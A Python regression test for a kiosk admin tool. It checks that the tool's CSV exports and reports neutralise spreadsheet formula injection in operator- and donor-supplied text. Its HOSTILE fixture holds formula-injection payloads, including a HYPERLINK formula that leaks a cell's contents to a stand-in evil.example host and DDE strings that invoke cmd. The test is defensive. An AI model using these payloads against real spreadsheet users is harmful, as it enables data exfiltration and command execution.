"""Text typed by operators and donors reaches CSV files opened on an office PC: a cell that
begins with = + - @ or a tab is a formula to the spreadsheet. kiosk-admin export and report
--csv wrote 52 of 476 cells of one run unescaped; every text cell is now escaped as OWASP
describes (a leading single quote), numbers stay numbers."""

from __future__ import annotations

import csv
import re
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

from kiosk.config import load_config
from kiosk.core import audit, catalogue, stock
from kiosk.core.csv_safe import FORMULA_STARTS
from kiosk.core.ids import uuid7
from kiosk.core.models import CartLine, PresentedCard
from kiosk.services import build
from points_protocol.catalogue import Category, ItemKind, ItemSpec
from tests.conftest import mark_synced

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = {
    "item": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "item_en": "+1+cmd|' /C calc'!A0",
    "donor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "reason": "=1+1 wrong item",
}
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def admin(database: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "kiosk.cli.admin", "--config", str(ROOT / "config.toml"),
         "--database", str(database), *args],
        capture_output=True, text=True, check=False, timeout=120)


def cells(folder: Path) -> list[str]:
    found = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            found += [cell for row in csv.reader(fh) for cell in row]
    return found


def test_every_csv_the_kiosk_writes_is_safe_to_open(tmp_path: Path) -> None:
    database = tmp_path / "kiosk.sqlite"
    assert admin(database, "demo").returncode == 0
    config = load_config(ROOT / "config.toml")
    s = build(replace(config, database=replace(config.database, path=str(database))))
    mark_synced(s, s.clock.now())
    catalogue.upsert_items(s.conn, s.clock, [ItemSpec(
        "evil", HOSTILE["item"], HOSTILE["item_en"], Category.DAILY_LIFE, ItemKind.GOODS, 10)])
    audit.add_donor(s.conn, s.clock, "op1", "d-evil", name=HOSTILE["donor"],
                    contact=HOSTILE["tab"])
    audit.restock(s.conn, s.clock, "op1", [stock.Restock("evil", 5)], donor_id="d-evil",
                  note=HOSTILE["note"])
    sale = s.checkout.checkout(uuid7(), PresentedCard("04A1B2C3D4E5F6"),
                               [CartLine("evil", 2)])
    audit.void(s.conn, s.clock, s.kiosk, s.policy, "op1", void_id=uuid7(),
               order_id=sale.order_id, reason=HOSTILE["reason"])
    s.conn.close()

    assert admin(database, "export", str(tmp_path / "export")).returncode == 0
    report = admin(database, "report", "today", "--csv", str(tmp_path / "usb"))
    assert report.returncode == 0, report.stderr
    written = cells(tmp_path / "export") + cells(tmp_path / "usb")
    assert len(written) > 300
    formulas = [c for c in written if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert formulas == []
    for text in (HOSTILE["item"], HOSTILE["item_en"], HOSTILE["donor"], HOSTILE["note"]):
        assert "'" + text in written, text                   # still there, as text
    assert any(c.startswith("'\t=1+2") for c in written)
    assert "-2" in written or "-1" in written or any(NUMBER.fullmatch(c) and c.startswith("-")
                                                       for c in written)   # numbers untouched
